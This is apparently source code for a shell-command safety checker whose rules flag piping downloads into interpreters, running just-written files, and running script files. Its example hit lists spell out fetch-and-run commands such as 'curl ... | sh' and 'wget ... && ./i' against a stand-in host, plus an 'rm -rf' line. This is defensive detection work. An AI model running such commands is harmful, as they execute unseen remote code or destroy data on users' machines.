import { guards } from '../guards.ts';
import { normalise } from '../paths.ts';
import { report, type Scope } from '../scope.ts';
import { type Arg, type RuleInfo, type SimpleCommand, UNKNOWN } from '../types.ts';
import { judgeShellText, type Unwrapped } from './inner.ts';

export const pipeToInterpreter: RuleInfo = {
  id: 'pipe-to-interpreter',
  level: 'dangerous',
  sentence: 'Feeds an interpreter with what another command prints, so what would run cannot be seen.',
  hits: [
    'curl https://e.example/x.sh | sh',
    'base64 -d x | bash',
    'bash <(curl -s e.example)',
    'history | sh',
    'curl e.example | python3',
    'cat x | sudo bash',
    'xargs sh -c',
  ],
  misses: ["echo 'ls' | sh", 'curl e.example | jq .', 'bash script.sh', 'history | bashh'],
};

export const writeThenRun: RuleInfo = {
  id: 'write-then-run',
  level: 'dangerous',
  sentence: 'Runs a file that the same command has just written or downloaded.',
  hits: [
    "echo 'rm -rf x' > s; . ./s",
    'curl -o x.sh e.example; bash x.sh',
    'wget -O i e.example && chmod +x i && ./i',
    'tee s < x; sh s',
  ],
  misses: ['bash s.sh', 'echo hi > a; cat a'],
};

export const runsScript: RuleInfo = {
  id: 'runs-script-file',
  level: 'caution',
  sentence: 'Runs a script file whose content is not part of the command.',
  reversible: true,
  hits: ['bash script.sh', 'source ./env.sh', '. ./env.sh', 'python3 tool.py'],
  misses: ["bash -c 'ls'", 'cat script.sh'],
};

export const shells = new Set(
  'sh bash zsh dash ksh ksh93 mksh ash fish rbash csh tcsh yash oksh elvish nu xonsh'.split(' '),
);

/** `bash -c text`, `bash file`, `bash` with something on its standard input. */
export function unwrapShell(command: SimpleCommand, scope: Scope): Unwrapped {
  const call = readCall(command.args);
  if (call.dry) return 'judged';
  if (call.script) {
    judgeShellText(command, call.script, scope);
    if (command.open && /^\s*(?:"?\$[@*0-9]"?|\{\})/.test(call.script.value))
      report(scope, pipeToInterpreter, command.span);
    return call.plain ? 'clear' : 'judged';
  }
  if (call.command) {
    report(scope, command.open ? pipeToInterpreter : guards.unknownCommand, command.span);
    return 'judged';
  }
  if (call.file) return runFile(command, call.file, scope);
  if (command.open) report(scope, pipeToInterpreter, command.span);
  return runStdin(command, scope);
}

interface Call {
  /** `-c` was given. */
  command: boolean;
  script?: Arg;
  file?: Arg;
  /** `-n`: reads the text and runs nothing. */
  dry?: boolean;
  /** Only options that change nothing about what runs. */
  plain: boolean;
}

const valued = new Set(['-o', '+o', '-O', '+O', '--rcfile', '--init-file']);

function readCall(args: readonly Arg[]): Call {
  const call: Call = { command: false, plain: true };
  let i = 0;
  for (; i < args.length; i++) {
    const value = args[i]?.value ?? '';
    if (value === '--' || value === '-') {
      i++;
      break;
    }
    if (!/^[-+]./.test(value)) break;
    if (value.startsWith('--')) {
      if (/^--(?:rcfile|init-file)/.test(value)) call.plain = false;
      if (value === '--command') call.command = true;
    } else {
      if (value.startsWith('-') && value.includes('c')) call.command = true;
      if (/^-[a-z]*n/.test(value) && !value.includes('o')) call.dry = true;
      if (/[sioODv]/.test(value)) call.plain = false;
      if (/s/.test(value) && value.startsWith('-') && !call.command) return { command: false, plain: false };
    }
    if (valued.has(value) || /^[-+]\w*[oO]$/.test(value)) i++;
  }
  const next = args[i];
  if (!next) return call;
  if (call.command) call.script = next;
  else call.file = next;
  return call;
}

/** A script file, `/dev/stdin`, or a process substitution. Also `source` and `.`. */
export function runFile(command: SimpleCommand, file: Arg, scope: Scope): Unwrapped {
  if (/^[<>]\(/.test(file.text)) report(scope, pipeToInterpreter, file.span);
  else if (/^(?:\/dev\/stdin|\/dev\/fd\/0|\/proc\/self\/fd\/0|-)$/.test(file.value))
    return runStdin(command, scope);
  else if (/^\/dev\/(?:fd|tcp)|^\/proc\/.*\/fd\//.test(file.value))
    report(scope, pipeToInterpreter, file.span);
  else if (wasWritten(file.value, scope)) report(scope, writeThenRun, file.span);
  else if (file.value === UNKNOWN) report(scope, { ...runsScript }, file.span);
  else report(scope, runsScript, file.span);
  return 'judged';
}

export function wasWritten(path: string, scope: Scope): boolean {
  const file = normalise(path);
  return (
    scope.written.has(file) || (file.includes('/') && scope.written.has(normalise(file.replace(/^.*\//, ''))))
  );
}

function runStdin(command: SimpleCommand, scope: Scope): Unwrapped {
  const { stdin } = command;
  if (stdin.kind === 'text') {
    scope.nested(stdin.text, scope, { span: stdin.span, via: [...command.via, command.name] });
  } else if (stdin.kind === 'pipe') report(scope, pipeToInterpreter, command.span);
  else if (stdin.kind === 'file') report(scope, runsScript, command.span);
  return 'judged';
}
